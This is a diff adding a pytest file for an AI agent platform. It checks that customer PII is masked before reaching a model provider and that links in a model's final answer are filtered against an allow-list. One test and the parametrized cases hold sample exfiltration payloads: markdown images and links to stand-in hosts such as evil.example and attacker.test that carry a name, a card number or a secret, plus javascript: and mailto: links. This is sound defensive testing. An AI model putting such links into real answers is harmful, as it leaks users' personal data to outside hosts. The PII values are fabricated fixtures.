@@ -1,0 +1,144 @@
+"""What a model provider sees, and what a final answer may link to."""
+
+import json
+
+import pytest
+from pydantic_ai.messages import ModelRequest, ToolReturnPart, UserPromptPart
+from pydantic_ai.models.function import DeltaToolCall, FunctionModel
+
+from domains.ecm.models import Ticket, TicketEvent
+from skills.executor import ResolvedModel
+from skills.governance import answer_links_neutralise
+from skills.models import Domain, RunStatus
+from skills.services import skill_run_start
+from tests.skills.conftest import context_for
+
+PII_NOTE = (
+    "Customer called from +971 50 123 4567 and sent card 4242 4242 4242 4242; "
+    "refund to AE07 0331 2345 6789 0123 456, mail rahul.mehta@gmail.com, passport no K1234567"
+)
+
+
+def capturing_model(seen: list, answer: str = "done") -> FunctionModel:
+    """Calls ticket_detail for 1042 once, then answers; keeps every message list it was sent."""
+
+    async def stream(messages, info):
+        seen.append(messages)
+        if not any(isinstance(p, ToolReturnPart) for m in messages if isinstance(m, ModelRequest) for p in m.parts):
+            yield {0: DeltaToolCall(name="ticket_detail", json_args=json.dumps({"ticket_number": 1042}))}
+        else:
+            yield answer
+
+    return FunctionModel(stream_function=stream, model_name="capturing")
+
+
+@pytest.fixture
+def pii_ticket(demo):
+    ticket = Ticket.objects.get(tenant__slug="aspora-remit", number=1042)
+    TicketEvent.objects.create(ticket=ticket, action="note", detail=PII_NOTE)
+    return ticket
+
+
+def _use(monkeypatch, model):
+    monkeypatch.setattr(
+        "skills.executor.model_resolve", lambda version: ResolvedModel(model, "provider", offline=False)
+    )
+
+
+def _sent_text(seen) -> str:
+    parts = [p for messages in seen for m in messages if isinstance(m, ModelRequest) for p in m.parts]
+    contents = [p.content for p in parts if isinstance(p, (UserPromptPart, ToolReturnPart))]
+    return json.dumps(contents, default=str, ensure_ascii=False)
+
+
+def test_a_provider_sees_placeholders_never_the_pii_in_the_message_or_the_tool_results(pii_ticket, monkeypatch):
+    seen: list = []
+    _use(monkeypatch, capturing_model(seen))
+
+    run = skill_run_start(
+        context=context_for("sarah"),
+        message="show ticket 1042, the customer's card is 5555 5555 5555 4444",
+        skill_name="ticket-detail",
+    )
+
+    run.refresh_from_db()
+    assert run.status == RunStatus.SUCCEEDED
+    sent = _sent_text(seen)
+    for original in (
+        "+971 50 123 4567",
+        "4242 4242 4242 4242",
+        "5555 5555 5555 4444",
+        "AE07 0331",
+        "rahul.mehta@",
+        "K1234567",
+    ):
+        assert original not in sent
+    for placeholder in ("[PHONE •••• 4567]", "[CARD •••• 4242]", "[CARD •••• 4444]", "[IBAN AE •••• 3456]",
+                        "[EMAIL r•••@gmail.com]", "[PASSPORT •••• 4567]"):  # fmt: skip
+        assert placeholder in sent
+    # The run's own record (inside its retention period) keeps what the tool returned.
+    tool_result = run.events.get(type="run.tool_result").data
+    assert "4242 4242 4242 4242" in json.dumps(tool_result, ensure_ascii=False)
+    # And what is stored as the model's history is what the provider saw.
+    assert "4242 4242 4242 4242" not in json.dumps(run.message_history, ensure_ascii=False)
+
+
+def test_a_domain_that_narrows_redaction_sends_the_other_kinds_as_they_are(pii_ticket, monkeypatch):
+    ecm = Domain.objects.get(name="ecm")
+    ecm.config = {**ecm.config, "governance": {"redact": ["card"], "transcript_retention_days": 30}}
+    ecm.save()
+    seen: list = []
+    _use(monkeypatch, capturing_model(seen))
+    from skills import executor
+
+    executor._agents.clear()  # agents are built once per version per process
+
+    skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")
+
+    sent = _sent_text(seen)
+    assert "[CARD •••• 4242]" in sent and "4242 4242 4242 4242" not in sent
+    assert "rahul.mehta@gmail.com" in sent
+    executor._agents.clear()
+
+
+def test_the_offline_model_runs_here_and_quotes_the_tool_exactly(pii_ticket):
+    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")
+
+    run.refresh_from_db()
+    assert run.is_offline and "4242 4242 4242 4242" in run.answer
+
+
+def test_a_final_answer_cannot_link_or_embed_an_image_off_the_allow_list(pii_ticket, monkeypatch):
+    evil = (
+        "Here you go ![status](https://evil.example/collect?d=Rahul%20Mehta) and [the portal](/ecm/tickets/1042/) "
+        "and [proof](http://attacker.test/x?card=4242) or https://exfil.example.net/p?q=secret "
+        "and [ok](http://localhost/ecm/) <img src=https://evil.example/i.png>"
+    )
+    seen: list = []
+    _use(monkeypatch, capturing_model(seen, answer=evil))
+
+    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")
+
+    run.refresh_from_db()
+    final = run.events.get(type="run.final").data
+    assert run.answer == (
+        "Here you go [image removed: evil.example] and [the portal](/ecm/tickets/1042/) "
+        "and proof (link removed: attacker.test) or (link removed: exfil.example.net) "
+        "and [ok](http://localhost/ecm/) (html removed)"
+    )
+    assert "evil.example/" not in final["answer_html"] and "<img" not in final["answer_html"]
+    assert 'href="/ecm/tickets/1042/"' in final["answer_html"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("![x](//evil.example/a.png)", "[image removed: evil.example]"),
+        ("[x](javascript:void)", "x (link removed: a non-web link)"),
+        ("[m](mailto:ceo@evil.example)", "m (link removed: a non-web link)"),
+        ("see www.example.com and #1042", "see www.example.com and #1042"),  # no scheme: not a link
+        ("[a](https://sub.aspora.example/p)", "[a](https://sub.aspora.example/p)"),
+    ],
+)
+def test_link_filter_cases(text, expected):
+    assert answer_links_neutralise(text, {"aspora.example"}) == expected
